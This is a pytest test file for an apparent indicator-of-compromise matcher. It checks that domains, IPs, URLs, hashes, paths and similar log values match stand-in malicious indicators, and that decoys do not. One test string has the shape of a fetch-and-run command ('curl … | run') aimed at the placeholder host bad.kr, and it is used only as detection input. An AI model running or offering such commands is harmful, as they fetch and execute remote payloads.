"""Typed columns meet indicators at the right boundaries, and decoys meet none."""

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.data.indicator_case import block_of, indicators_of

from bongsu.analyze.indicator_index import build_index
from bongsu.analyze.indicator_match import match_block, match_values
from bongsu.facts.log_field import FIELD_KINDS, LogField

MD5 = "0123456789abcdef" * 2
SHA256 = "fedcba9876543210" * 4
WALLET = "0x" + "ab" * 20
INDEX = build_index(
    indicators_of(
        ("domain", "evil.com"),
        ("domain", "a.kro.kr"),
        ("domain", "xn--bcher-kva.kr"),
        ("ip", "91.2.3.4"),
        ("ip", "91.9.0.0/16"),
        ("ip", "2a00:db8::7"),
        ("url", "http://bad.kr/a/up.php"),
        ("url", "naver.com/x/evil.exe"),
        ("url", "bad.kr:8000/6202033"),
        ("url_path", "/0918_uri_skle/dksleks?na="),
        ("md5", MD5),
        ("sha256", SHA256),
        ("email", "kim@evil.kr"),
        ("filename", "evil.exe"),
        ("filename_regex", r":\\ProgramData\\evil[0-9]\.bat$"),
        ("mutex", "Global\\EvilLock"),
        ("wallet", WALLET),
    )
)


def met(kind, *values):
    place, key = match_values(kind, pa.array(values), INDEX)
    return [(int(at), INDEX.of_key(int(one))[0]["value"]) for at, one in zip(place, key, strict=True)]


@pytest.mark.parametrize(
    ("kind", "value", "indicators"),
    [
        ("domain", "evil.com", ["evil.com"]),
        ("domain", "WWW.Evil.com.", ["evil.com"]),
        ("domain", "www.bücher.kr", ["xn--bcher-kva.kr"]),
        ("domain", "a.kro.kr", ["a.kro.kr"]),
        ("domain", "91.2.3.4", ["91.2.3.4"]),
        ("ip", "91.2.3.4", ["91.2.3.4"]),
        ("ip", "91.9.77.1:443", ["91.9.0.0/16"]),
        ("ip", "2A00:0DB8:0::7", ["2a00:db8::7"]),
        ("ip", "::ffff:91.2.3.4", ["91.2.3.4"]),
        ("url", "https://bad.kr:443/a/up.php?id=1", ["bad.kr/a/up.php"]),
        ("url", "HTTP://BAD.kr/a/up.php/", ["bad.kr/a/up.php"]),
        ("url", "http://bad.kr:8000/6202033", ["bad.kr:8000/6202033"]),
        ("url", "http://naver.com/x/evil.exe", ["naver.com/x/evil.exe"]),
        ("url", "https://x.evil.com/", ["evil.com"]),
        ("url", "http://91.2.3.4:8080/", ["91.2.3.4"]),
        ("url", "http://site.kr/0918_uri_skle/dksleks?na=view", ["/0918_uri_skle/dksleks?na="]),
        ("hash", MD5.upper(), [MD5]),
        ("hashes", f"SHA256={SHA256.upper()},IMPHASH={MD5.upper()}", [SHA256]),
        ("hashes", f"SHA1={'0' * 40},MD5={MD5}", [MD5]),
        ("email", "Kim <KIM@evil.kr>, b@mail.evil.com", ["evil.com", "kim@evil.kr"]),
        ("path", "C:\\Users\\a\\Evil.EXE", ["evil.exe"]),
        ("path", "/tmp/evil.exe", ["evil.exe"]),
        ("path", "C:\\ProgramData\\evil7.bat", [r":\\ProgramData\\evil[0-9]\.bat$"]),
        ("mutex", "Global\\evillock", ["global\\evillock"]),
        ("mutex", "\\Global\\EvilLock", ["global\\evillock"]),
        ("text", f"curl http://bad.kr:80/a/up.php | run {MD5}", [MD5, "bad.kr/a/up.php"]),
        ("text", "ping 91.2.3.4 then [2a00:db8::7]:443", ["2a00:db8::7", "91.2.3.4"]),
        ("text", f"send to {WALLET.upper().replace('X', 'x')}.", [WALLET]),
        ("text", '{"to": "kim@evil.kr"}', ["kim@evil.kr"]),
    ],
)
def test_values_meet_indicators(kind, value, indicators):
    assert sorted(one for _place, one in met(kind, value)) == sorted(indicators)


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("domain", "notevil.com"),
        ("domain", "evil.com.kr"),
        ("domain", "com"),
        ("domain", "b.kro.kr"),
        ("domain", "kro.kr"),
        ("domain", "www.a.kro.kr"),
        ("domain", "naver.com"),
        ("domain", "bad.kr"),
        ("domain", "xevil.com"),
        ("domain", "bücher.kr.example"),
        ("ip", "91.2.3.40"),
        ("ip", "191.2.3.4"),
        ("ip", "91.10.0.0"),
        ("url", "http://bad.kr/a/up.phpx"),
        ("url", "http://bad.kr/a"),
        ("url", "http://bad.kr:8080/a/up.php"),
        ("url", "http://naver.com/x/evil.exe/more"),
        ("url", "http://naver.com/"),
        ("url", "http://good.kr/?next=http://bad.kr/a/up.php"),
        ("url", "http://site.kr/b/0918_uri_skle/dksleks?na=view"),
        ("hash", MD5[:-1]),
        ("hashes", f"IMPHASH={MD5}"),
        ("email", "kim@evil.kr.com"),
        ("email", "evil.com@gmail.com"),
        ("email", "akim@evil.kr"),
        ("path", "C:\\evil.exe.txt"),
        ("path", "C:\\notevil.exe"),
        ("path", "C:\\ProgramData\\evil77.bat"),
        ("mutex", "EvilLock2"),
        ("text", "see notevil.com, evil.company and evil[.]com"),
        ("text", f"x{MD5} {SHA256}0"),
        ("text", "evil.com@gmail.com"),
    ],
)
def test_decoys_meet_nothing(kind, value):
    assert met(kind, value) == []


def test_values_that_are_written_so_that_nobody_clicks_are_met_where_asked_for():
    values = pa.array(["go to hxxp://evil[.]com"])
    assert len(match_values("text", values, INDEX)[0]) == 0
    assert len(match_values("text", values, INDEX, fanged=True)[0]) == 1


MEANING = {"query": LogField("", "domain"), "uri": LogField("", "url"), "host": LogField("", "domain")}


def test_hits_are_mapped_to_all_events_that_have_the_value():
    block = block_of(query=["a.com", "evil.com", None, "x.evil.com", "evil.com"], other=["evil.com"] * 5)
    (found,) = match_block(block, MEANING, INDEX)
    assert found.view.field == "query"
    assert found.row.tolist() == [1, 3, 4]
    assert {INDEX.of_key(int(key))[0]["value"] for key in found.key} == {"evil.com"}


def test_one_value_may_meet_several():
    index = build_index(indicators_of(("domain", "evil.com"), ("domain", "a.evil.com")))
    (found,) = match_block(block_of(query=["a.evil.com", "b.evil.com", "a.evil.com"]), MEANING, index)
    assert found.row.tolist() == [0, 0, 1, 2, 2]


def test_a_path_is_joined_with_the_host_of_its_event():
    block = block_of(
        ("zeek", "http"),
        host=["good.kr", "bad.kr", "bad.kr", None, "good.kr"],
        uri=["/a/up.php", "/a/up.php", "/b", "/a/up.php", "http://bad.kr/a/up.php"],
    )
    found = [(one.view.field, one.row.tolist()) for one in match_block(block, MEANING, INDEX)]
    assert found == [("uri", [1, 4])]


def test_no_indicators_and_no_events_are_nothing():
    empty = build_index(indicators_of())
    assert match_block(block_of(query=["evil.com"]), MEANING, empty) == []
    assert match_block(block_of(query=[]), MEANING, INDEX) == []


COMPARED = [kind for kind in FIELD_KINDS if kind not in {"", "host", "user", "package"}]


@settings(max_examples=200)
@given(st.sampled_from(COMPARED), st.lists(st.text(max_size=50) | st.none(), max_size=5))
def test_no_text_breaks_it(kind, values):
    match_block(block_of(query=values), {"query": LogField("", kind)}, INDEX)
